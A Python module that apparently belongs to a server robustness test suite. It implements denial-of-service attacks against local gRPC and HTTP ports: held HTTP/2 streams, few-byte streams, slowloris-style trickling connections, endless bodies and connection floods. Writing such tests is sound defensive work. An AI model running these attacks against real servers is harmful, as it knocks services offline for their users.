# SPDX-License-Identifier: Apache-2.0
"""Attacks by what is begun and not ended: streams, connections, bodies, headers, answers that nobody reads."""

import random
import select
import struct
import time
from collections import Counter

import h2_frames as h2
from connections import AGAIN, BROKEN, MIB, REQUEST_HEADERS, connect, h2_connection, stranger


def held_streams(first, trickle):
    """Streams that get `first` bytes of a body and then just enough to be no slow sender, and never end."""
    def attack(ports, deadline):
        seen = Counter()
        held = []
        while time.monotonic() < deadline:
            while len(held) < 8 and time.monotonic() < deadline:
                try:
                    connection = h2_connection(ports.grpc, stranger())
                    connection.wait_settings()
                    seen["connections"] += 1
                    held.append((connection, [connection.stream() for _ in range(128)]))
                    for stream in held[-1][1]:
                        connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, REQUEST_HEADERS))
                        connection.send(h2.frame(h2.DATA, 0, stream, struct.pack(">BI", 0, 32 << 20)))
                        for _ in range(first >> 14):
                            connection.send(h2.frame(h2.DATA, 0, stream, bytes(1 << 14)))
                        connection.discard()
                        seen["streams"] += 1
                except BROKEN:
                    seen["cut"] += 1
            kept = []
            for connection, streams in held:
                try:
                    connection.send(b"".join(h2.frame(h2.DATA, 0, s, bytes(trickle)) for s in streams))
                    connection.discard()
                    kept.append((connection, streams))
                except BROKEN:
                    seen["cut"] += 1
                    connection.close()
            held = kept
            time.sleep(min(0.5, max(0, deadline - time.monotonic())))
        for connection, _ in held:
            connection.close()
        return seen
    return attack


def few_bytes(ports, deadline):
    """1,280 streams of one address that get six bytes of a body each, and are opened anew before they count as slow."""
    seen = Counter()
    start = struct.pack(">BI", 0, 32 << 20) + b"\0"
    while time.monotonic() < deadline:
        held = []
        reopen = min(deadline, time.monotonic() + 4.5)
        for _ in range(10):
            try:
                connection = h2_connection(ports.grpc, "127.0.0.2")
                held.append(connection)
                connection.wait_settings()
                for stream in [connection.stream() for _ in range(128)]:
                    connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, REQUEST_HEADERS) + h2.frame(h2.DATA, 0, stream, start))
                    connection.discard()
                    seen["streams"] += 1
            except BROKEN:
                seen["cut"] += 1
        time.sleep(max(0, reopen - time.monotonic()))
        for connection in held:
            connection.close()
    return seen


def held_connections(count, opening, trickle):
    """HTTP/1.1 connections that send `opening` and then `trickle` twice a second; those cut are opened anew."""
    def attack(ports, deadline):
        seen, held = Counter(), {}

        def push(s, data):
            try:
                left = len(held[s]) + len(data)
                if left <= 4 * MIB:
                    held[s] += data
                sent = s.send(held[s][:256 << 10])
                del held[s][:sent]
            except AGAIN:
                pass

        def drop(s):
            del held[s]
            s.close()
            seen["cut"] += 1

        def hungry():
            """Of those with much to send and with room to send it."""
            todo = [s for s in held if held[s]]
            poller = select.poll()
            by_fd = {s.fileno(): s for s in todo}
            for fd in by_fd:
                poller.register(fd, select.POLLOUT)
            return [by_fd[fd] for fd, _ in poller.poll(0)]

        next_trickle = time.monotonic()
        while time.monotonic() < deadline:
            while len(held) < count and time.monotonic() < deadline:
                s = None
                try:
                    s = connect(ports.http, f"127.0.0.{2 + len(held) % 20}")
                    s.setblocking(False)
                    held[s] = bytearray(opening)
                    push(s, b"")
                    seen["connections"] += 1
                except OSError:
                    held.pop(s, None)
                    if s is not None:
                        s.close()
                    seen["cut"] += 1
            if time.monotonic() >= next_trickle:
                next_trickle = time.monotonic() + 0.5
                for s in list(held):
                    try:
                        push(s, trickle)
                        try:
                            answer = s.recv(4096)
                            seen[answer[9:12].decode() or "closed"] += 1
                            drop(s)
                        except AGAIN:
                            pass
                    except OSError:
                        drop(s)
            busy = hungry()
            for s in busy:
                try:
                    push(s, b"")
                except OSError:
                    drop(s)
            if not busy:
                time.sleep(0.05)
        for s in held:
            s.close()
        return seen
    return attack


def endless(opening, piece):
    """One HTTP/1.1 connection after the other that sends `opening` and then `piece` for as long as it is taken."""
    def attack(ports, deadline):
        seen = Counter()
        while time.monotonic() < deadline:
            try:
                with connect(ports.http, stranger()) as s:
                    seen["connections"] += 1
                    s.sendall(opening)
                    while time.monotonic() < deadline:
                        s.sendall(piece)
                        seen["MiB"] += len(piece) >> 20
            except OSError:
                seen["cut"] += 1
        return seen
    return attack


def many_connections(ports, deadline):
    seen, held = Counter(), []
    while time.monotonic() < deadline:
        try:
            held.append(connect(random.choice((ports.grpc, ports.http)), stranger(), 1))
            seen["connections"] += 1
        except OSError:
            seen["cut"] += 1
        if len(held) >= 400:
            time.sleep(min(0.2, max(0, deadline - time.monotonic())))
            for s in held[:40]:
                s.close()
            del held[:40]
    for s in held:
        s.close()
    return seen
